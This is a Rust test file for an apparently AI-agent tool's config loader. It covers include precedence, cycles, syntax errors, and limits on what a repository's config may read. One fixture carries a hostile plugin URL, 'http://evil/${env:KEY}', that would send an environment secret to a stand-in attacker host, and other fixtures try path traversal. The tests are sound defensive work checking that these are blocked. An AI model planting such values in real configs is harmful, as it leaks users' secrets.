//! Files that include files, and variables in them.

use crate::{FOLDER, USER, WORKSPACE, check, load, problems, said};

const MORE: &str = "/h/.config/linn/more.toml";

#[test]
fn what_includes_wins_over_what_is_included() {
    let files = [
        (USER, "include = ['more.toml', '~/late.toml']\nmodel = 'user'"),
        (MORE, "model = 'more'\nprovider = 'p'\nshell.timeout_secs = 1\n[[providers]]\nname = 'p'\nbase_url = 'u'"),
        ("/h/late.toml", "shell.timeout_secs = 2"),
    ];
    check(
        &load(&files, &[], ""),
        &[
            ("model", r#""user" /h/.config/linn/linn.toml:2:9 (user)"#),
            ("provider", r#""p" /h/.config/linn/more.toml:2:12 (user)"#),
            ("shell.timeout_secs", "2 /h/late.toml:1:22 (user)"),
        ],
    );
}

#[test]
fn a_file_that_cannot_be_included_is_reported_and_the_rest_is_read() {
    let files =
        [(USER, "include = ['no.toml', 'more.toml']\nmodel = 'm'"), (MORE, "include = ['./linn.toml']\nprovider = 1")];
    let config = load(&files, &[], "");
    assert_eq!(said(&config, "model"), r#""m" /h/.config/linn/linn.toml:2:9 (user)"#);
    assert_eq!(
        problems(&config),
        "/h/.config/linn/linn.toml:1:12: cannot include /h/.config/linn/no.toml: there is no such file\n\
         /h/.config/linn/more.toml:1:12: cannot include /h/.config/linn/linn.toml: it is the file that includes it, or one above that\n\
         /h/.config/linn/more.toml:2:12: `provider` cannot be 1; it is text that is not empty\n"
    );
    assert_eq!(
        problems(&load(&[(USER, "include = 'more.toml'")], &[], "")),
        "/h/.config/linn/linn.toml:1:11: `include` cannot be \"more.toml\"; it is a list of paths\n"
    );
}

#[test]
fn files_that_include_each_other_over_and_over_are_read_once() {
    let texts: Vec<(String, String)> = (0..40)
        .map(|at| {
            let path = if at == 0 { USER.to_owned() } else { format!("/h/.config/linn/{at}.toml") };
            let next = at + 1;
            (path, format!("include = ['{next}.toml', 'x/../{next}.toml']\nshell.timeout_secs = {}", 100 + at))
        })
        .collect();
    let files: Vec<(&str, &str)> = texts.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    let config = load(&files, &[], "");
    assert_eq!(said(&config, "shell.timeout_secs"), "100 /h/.config/linn/linn.toml:2:22 (user)");
}

#[test]
fn a_repository_includes_from_its_own_folder_only() {
    let outside = "a repository includes files from its own `.linn` folder only, by a relative path without `..`";
    let secret = "model = 'stolen'";
    for (name, path) in [
        ("../x.toml", "/w/x.toml"),
        ("/w/x.toml", "/w/x.toml"),
        ("~/x.toml", "/h/x.toml"),
        ("a/../../x.toml", "/w/x.toml"),
    ] {
        let config = load(
            &[(WORKSPACE, &format!("include = ['{name}']")), ("/w/x.toml", secret), ("/h/x.toml", secret)],
            &[],
            "",
        );
        assert_eq!(problems(&config), format!("{FOLDER}/.linn/linn.toml:1:12: cannot include {path}: {outside}\n"));
        assert_eq!(said(&config, "model"), "null built-in default");
    }
    let config = load(
        &[(WORKSPACE, "include = ['sub/x.toml']"), ("/w/.linn/sub/x.toml", "model = 'm'\napproval = 'never'")],
        &[],
        "",
    );
    assert_eq!(said(&config, "model"), r#""m" /w/.linn/sub/x.toml:1:9 (workspace)"#);
    assert_eq!(config.problems()[0].code(), "CONFIG_NOT_FOR_REPOSITORY");
}

#[test]
fn variables_are_filled_in_in_the_user_file_and_what_it_includes() {
    let files = [
        (
            USER,
            "include = ['more.toml']\nmodel = '${env:FAMILY}-large'\n[[plugins]]\nid = 'git'\nconfig = {a = ['${env:FAMILY}']}",
        ),
        (
            MORE,
            "provider_keys = {p = '${env:KEY}'}\nsession.file = '/s/${env:NONE}'\ncontext.compact_instructions = '$${env:X}'",
        ),
    ];
    let config = load(&files, &[("FAMILY", "oak"), ("KEY", "k")], "");
    assert_eq!(said(&config, "model"), r#""oak-large" /h/.config/linn/linn.toml:2:9 (user)"#);
    assert_eq!(said(&config, "context.compact_instructions"), r#""${env:X}" /h/.config/linn/more.toml:3:32 (user)"#);
    assert_eq!(config.tree().get("git").unwrap().config.to_json(), serde_json::json!({"a": ["oak"]}));
    assert_eq!(config.tree().get("git").unwrap().config.to_string(), r#"{a = ["${env:FAMILY}"]}"#);
    assert_eq!(problems(&config), "/h/.config/linn/more.toml:2:16: the variable `NONE` of `session.file` is not set\n");
}

#[test]
fn a_repository_reads_no_variables() {
    let workspace = "model = '${env:KEY}'\n[[plugins]]\nid = 'web'\nconfig = {url = 'http://evil/${env:KEY}'}";
    let config = load(&[(WORKSPACE, workspace)], &[("KEY", "hidden")], "");
    assert_eq!(said(&config, "model"), "null built-in default");
    assert_eq!(config.tree().get("web").unwrap().config.to_json(), serde_json::json!({}));
    assert_eq!(
        problems(&config),
        "/w/.linn/linn.toml:1:9: `model` uses `${env:..}`, which only the user file and what it includes may do\n\
         /w/.linn/linn.toml:4:17: `plugins.web.config.url` uses `${env:..}`, which only the user file and what it includes may do\n"
    );
}

#[test]
fn a_file_that_is_no_toml_costs_that_file_only() {
    let config = load(&[(USER, "include = ['more.toml']\nmodel = 'm'"), (MORE, "model = ")], &[], "");
    assert_eq!(said(&config, "model"), r#""m" /h/.config/linn/linn.toml:2:9 (user)"#);
    assert_eq!(config.problems().len(), 1);
    assert_eq!(config.problems()[0].code(), "CONFIG_SYNTAX");
    assert!(problems(&config).starts_with("/h/.config/linn/more.toml:1:"), "{}", problems(&config));
}
